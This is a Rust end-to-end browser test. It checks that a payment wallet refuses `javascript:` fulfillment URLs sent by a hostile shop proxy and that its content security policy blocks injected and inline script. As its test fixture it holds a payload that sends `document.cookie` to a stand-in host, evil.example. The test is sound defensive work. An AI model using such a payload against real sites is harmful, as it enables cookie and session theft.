//! A hostile shop, in real headless Chromium against the real mint-server
//! serving the built wallet: the demo merchant behind a proxy that rewrites
//! its answers to carry script URLs, and the wallet's page policy.

// Test code: a helper that meets what it did not expect panics, as the
// tests themselves do (clippy.toml allows it only inside #[test] functions).
#![allow(clippy::expect_used, clippy::unwrap_used)]

use std::time::Duration;

use browser_e2e::*;

/// Finding 1 in the browser: a shop that answers a payment with a
/// `javascript:` fulfillment URL (or puts one in its payment request) gets
/// nothing run: the wallet shows an error and stays; and the wallet page's
/// CSP stops script URLs and inline script even if something tried.
#[tokio::test(flavor = "current_thread")]
async fn a_hostile_shop_runs_no_script_in_the_wallet() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};

    let mint = wallet_mint(&[]);
    let url = mint.url().to_owned();
    let wallet = wallet_url(&mint);
    // The hostile shop: the demo merchant behind a proxy (its public URL,
    // so its links lead there) that rewrites its payment answers (and, when
    // asked, its payment requests).
    let in_payreq = Arc::new(AtomicBool::new(false));
    let flag = in_payreq.clone();
    let payload = "javascript:document.title='pwned';fetch('//evil.example/'+document.cookie)";
    let pay_prefix = api::Pay::path("");
    let payreq_prefix = api::PayreqApi::path("");
    let rewrite: Arc<Rewrite> = Arc::new(move |path: &str, body: &mut Vec<u8>| {
        let answer = path.starts_with(&pay_prefix);
        let payreq = path.starts_with(&payreq_prefix) && flag.load(Ordering::SeqCst);
        if !(answer || payreq) {
            return;
        }
        if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
            v["fulfillment_url"] = serde_json::json!(payload);
            *body = serde_json::to_vec(&v).unwrap_or_default();
        }
    });
    let (merchant, proxy) = merchant_behind_proxy(&mint, mint.url(), Some(rewrite), &[]);
    let shop_url = proxy.url.clone();
    let shop = shop_client(&shop_url);

    // The wallet page carries the strict policy.
    let csp = reqwest::get(&wallet)
        .await
        .expect("wallet page")
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        csp.contains("script-src 'self' 'wasm-unsafe-eval';") && !csp.contains("unsafe-inline"),
        "{csp}"
    );

    let driver = Driver::start();
    let profiles = tempfile::tempdir().expect("profiles");
    let a = driver.session(&profiles.path().join("victim")).await;
    a.goto(&wallet).await.expect("open wallet");
    click(&a, "#create").await;
    wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
    click(&a, "#seed-ok").await;
    fill(&a, "#faucet-amount", "10").await;
    click(&a, "#faucet-btn").await;
    wait_text(&a, "#account-balance", "account", money("10.00 DEMO")).await;
    fill(&a, "#withdraw-amount", "5").await;
    click(&a, "#withdraw-btn").await;
    wait_text(&a, "#message", "withdrawn", |t| t.starts_with("Withdrew")).await;
    let title = a.title().await.expect("title");

    // An order made at the shop's (proxy's) address: the wallet link that pays it.
    let order = |item: &'static str| {
        let (shop, wallet, shop_url) = (&shop, &wallet, &shop_url);
        async move {
            let p = shop.order(item).await.expect("order");
            assert!(p.pay_url.starts_with(shop_url.as_str()), "{}", p.pay_url);
            pay_link(wallet, &shop.payreq_url(&p.payreq_id))
        }
    };

    // A payment request whose fulfillment URL is script: refused before paying.
    in_payreq.store(true, Ordering::SeqCst);
    let link = order("haiku").await;
    a.goto(&link).await.expect("pay link");
    let msg = wait_text(&a, "#message", "refusal", |t| t.contains("cannot be paid")).await;
    assert!(msg.contains("javascript:"), "{msg}");
    assert!(text(&a, "#pay-confirm").await.is_empty(), "no pay button");
    screenshot(&a, "12-hostile-payreq-refused").await;
    in_payreq.store(false, Ordering::SeqCst);

    // An honest-looking request, answered with a script URL after payment.
    let link = order("haiku").await;
    a.goto(&link).await.expect("pay link");
    let site = wait_text(&a, "#pay-origin", "the shop's site", |t| !t.is_empty()).await;
    assert_eq!(site.trim(), shop_url);
    click(&a, "#pay-confirm").await;
    let msg = wait_text(&a, "#message", "the refused link", |t| {
        t.contains("will not follow")
    })
    .await;
    assert!(msg.contains("javascript:"), "{msg}");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let here = a.current_url().await.expect("url").to_string();
    assert!(here.starts_with(&url), "the wallet navigated away: {here}");
    assert_eq!(a.title().await.expect("title"), title, "the script ran");
    screenshot(&a, "13-hostile-answer-refused").await;
    click(&a, "#nav-history").await;
    wait_text(&a, "#history", "the payment", |t| t.contains("Paid")).await;
    // A real payment, made at the hostile shop's address: the shop banked it.
    let st = shop_statement(&bank_client(&url), &merchant).await;
    assert_eq!(st.balance.value, 25, "the shop's account: {st:?}");
    assert!(
        proxy.report().0 >= 3,
        "orders and payment went through the proxy"
    );
    let script_links = a
        .execute(
            "return document.querySelectorAll('a[href^=\"javascript:\"]').length",
            vec![],
        )
        .await
        .expect("count links");
    assert_eq!(
        script_links,
        serde_json::json!(0),
        "a script link on the page"
    );

    // Even a script URL or an inline script put in the page does nothing: the CSP.
    a.execute(
        "location.href = \"javascript:document.title='csp-bypassed'\"; \
         const s = document.createElement('script'); \
         s.textContent = \"document.title='inline-ran'\"; document.body.append(s);",
        vec![],
    )
    .await
    .expect("execute");
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(
        a.title().await.expect("title"),
        title,
        "the CSP let script run"
    );
    let _ = a.close().await;
}
